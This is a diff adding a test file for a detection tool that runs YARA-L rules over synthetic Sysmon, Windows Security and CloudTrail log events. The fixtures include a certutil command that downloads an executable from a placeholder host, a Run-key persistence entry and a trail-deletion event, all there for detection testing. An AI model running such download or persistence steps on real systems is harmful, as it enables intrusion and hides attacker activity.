@@ -1,0 +1,95 @@
+/**
+ * YARA-L rules read over raw logs (`src/formats/yaral/readings.ts`): UDM fields read per event id over Sysmon's and
+ * the Security log's events as Google's parsers fill them, and over CloudTrail's JSON. The same results in process,
+ * on workers and in DuckDB.
+ */
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { yaralAdapter } from '../src/formats/yaral/index.ts';
+import { scanSource } from '../src/formats/scan.ts';
+import { HuntEngine } from '../src/hunt/engine.ts';
+import { hunt, type Hit } from '../src/hunt/session.ts';
+import { huntDuckdb } from '../src/hunt/sql/session.ts';
+import type { RuleRecord } from '../src/model/rule.ts';
+
+const rule = (name: string, meta: string, events: string) => `rule ${name} {
+  meta:
+    author = "detection-wiki fixtures"
+    description = "Invented rule for the hunt's UDM readings."
+${meta}
+  events:
+${events}
+  condition:
+    $e
+}
+`;
+
+const RULES: Record<string, string> = {
+  certutil: rule('certutil_urlcache', '    product = "windows"\n    service = "sysmon"', '    $e.metadata.product_event_type = "1"\n    re.regex($e.target.process.file.full_path, `\\\\certutil\\.exe$`) nocase\n    $e.target.process.command_line = /urlcache/ nocase'),
+  office: rule('office_child', '', '    $e.metadata.event_type = "PROCESS_LAUNCH"\n    $e.principal.process.file.full_path = /\\\\winword\\.exe$/ nocase'),
+  runkey: rule('run_key_set', '', '    $e.metadata.event_type = "REGISTRY_MODIFICATION"\n    $e.target.registry.registry_key = /\\\\CurrentVersion\\\\Run\\\\/ nocase'),
+  user: rule('ann_process', '    product = "windows"\n    service = "sysmon"', '    $e.metadata.product_event_type = "1"\n    $e.principal.user.userid = "ann"\n    $e.principal.administrative_domain = "CORP"'),
+  trail: rule('trail_deleted', '', '    $e.metadata.log_type = "AWS_CLOUDTRAIL"\n    $e.metadata.product_event_type = "DeleteTrail"\n    $e.target.application = "cloudtrail.amazonaws.com"'),
+};
+
+const win = (channel: string, provider: string, id: number, data: Record<string, unknown>) => ({ Event: { System: { EventID: id, Channel: channel, Computer: 'ws1.corp', Provider: { '#attributes': { Name: provider } } }, EventData: data } });
+const sysmon = (id: number, data: Record<string, unknown>) => win('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', id, { User: 'CORP\\ann', ...data });
+
+const EVENTS = [
+  sysmon(1, { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a.exe', ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE' }),
+  // the same process in a file creation: Image is the acting process there, not the target
+  sysmon(11, { Image: 'C:\\Windows\\System32\\certutil.exe', TargetFilename: 'C:\\x\\a.exe' }),
+  win('Security', 'Microsoft-Windows-Security-Auditing', 4688, { NewProcessName: 'C:\\Windows\\System32\\cmd.exe', ParentProcessName: 'C:\\Office\\winword.exe', SubjectUserName: 'ann' }),
+  sysmon(13, { Image: 'C:\\x\\a.exe', TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'C:\\x\\a.exe' }),
+  // an image load is a process event: not a registry modification
+  sysmon(7, { Image: 'C:\\x\\a.exe', ImageLoaded: 'C:\\x\\b.dll' }),
+  // a rename: a registry event whose type is not read here
+  sysmon(14, { Image: 'C:\\x\\a.exe', TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater' }),
+  { eventVersion: '1.08', eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail', awsRegion: 'us-east-1', sourceIPAddress: '203.0.113.5', eventTime: '2026-01-01T00:00:00Z', userIdentity: { type: 'IAMUser' } },
+];
+
+describe('detwiki hunt: YARA-L rules read over raw logs', () => {
+  let dir: string;
+  let rules: readonly RuleRecord[];
+  let file: string;
+  before(async () => {
+    dir = mkdtempSync(path.join(os.tmpdir(), 'detwiki-udm-'));
+    mkdirSync(path.join(dir, 'chronicle', 'rules'), { recursive: true });
+    for (const [name, text] of Object.entries(RULES)) writeFileSync(path.join(dir, 'chronicle', 'rules', `${name}.yaral`), text);
+    rules = (await scanSource(yaralAdapter, path.join(dir, 'chronicle'), { repository: 'test/chronicle' })).rules;
+    assert.equal(rules.length, Object.keys(RULES).length);
+    file = path.join(dir, 'events.jsonl');
+    writeFileSync(file, EVENTS.map((e) => JSON.stringify(e)).join('\n') + '\n');
+  });
+  after(() => rmSync(dir, { recursive: true, force: true }));
+
+  const key = (h: Hit) => `${h.pos.index} ${h.type} ${h.rule.id}${h.type === 'may_fire' ? ` (${(h.dependsOn ?? []).map((d) => /^([\w.]+) /.exec(d)?.[1]).join(',')})` : ''}`;
+  const WANT = [
+    '0 hit yaral/certutil', // product_event_type the id as text; the launched process is Image
+    '0 hit yaral/office', // the parent (ParentImage) is the principal process
+    '0 hit yaral/user', // User split at its backslash
+    '2 hit yaral/office', // 4688: ParentProcessName is the principal process
+    '3 hit yaral/runkey',
+    // an image load is a process event (a PROCESS_… type, which one not read here), and its principal not read
+    '4 may_fire yaral/office (metadata.event_type,principal.process.file.full_path)',
+    '5 may_fire yaral/runkey (metadata.event_type,target.registry.registry_key)', // 14: a registry type, which one not read
+    '6 hit yaral/trail',
+  ].map((w) => w.replace(/ \/\/.*$/, ''));
+
+  it('in process, on two worker threads and in DuckDB: the same hits', async () => {
+    const mem: string[] = [];
+    const readAs = new Map<number, string | undefined>();
+    await hunt(new HuntEngine(rules), [file], { onHit: (h) => (mem.push(key(h)), readAs.set(h.pos.index, h.readAs)) });
+    assert.match(readAs.get(0) ?? '', /WINDOWS_SYSMON parser/);
+    const par: string[] = [];
+    await hunt(new HuntEngine(rules), [file], { onHit: (h) => par.push(key(h)), workers: 2 });
+    const duck: string[] = [];
+    await huntDuckdb(new HuntEngine(rules), [file], { onHit: (h) => duck.push(key(h)) });
+    assert.deepEqual(mem.sort(), [...WANT].sort(), mem.join('\n'));
+    assert.deepEqual(par.sort(), mem);
+    assert.deepEqual(duck.sort(), mem);
+  });
+});
